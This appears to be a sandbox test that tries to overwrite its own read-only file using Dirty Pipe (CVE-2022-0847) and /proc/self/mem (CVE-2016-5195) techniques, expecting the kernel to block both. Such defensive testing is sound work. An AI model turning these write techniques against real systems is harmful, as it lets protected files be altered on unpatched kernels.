# attack: changing a read-only file in memory, through a pipe (CVE-2022-0847) and through /proc/self/mem (CVE-2016-5195)
# stopped by: kernel
# expect: contained
# control: kernel
import ctypes
import mmap
import os

from attack import LIBC, report

me = os.path.abspath(__file__)
before = open(me, "rb").read()
reader, writer = os.pipe()
for _ in range(16):
    os.write(writer, bytes(4096))
for _ in range(16):
    os.read(reader, 4096)
held = os.open(me, os.O_RDONLY)
os.splice(held, writer, 1, offset_src=2) if hasattr(os, "splice") else None
os.write(writer, b"?")
LIBC.mmap.restype = ctypes.c_void_p
LIBC.mmap.argtypes = [ctypes.c_void_p, ctypes.c_size_t, *[ctypes.c_int] * 3, ctypes.c_long]
at = LIBC.mmap(None, 4096, mmap.PROT_READ, mmap.MAP_PRIVATE, held, 0)
with open("/proc/self/mem", "r+b", buffering=0) as memory:
    memory.seek(at)
    memory.write(b"?")
report(open(me, "rb").read() != before, "the file has changed")
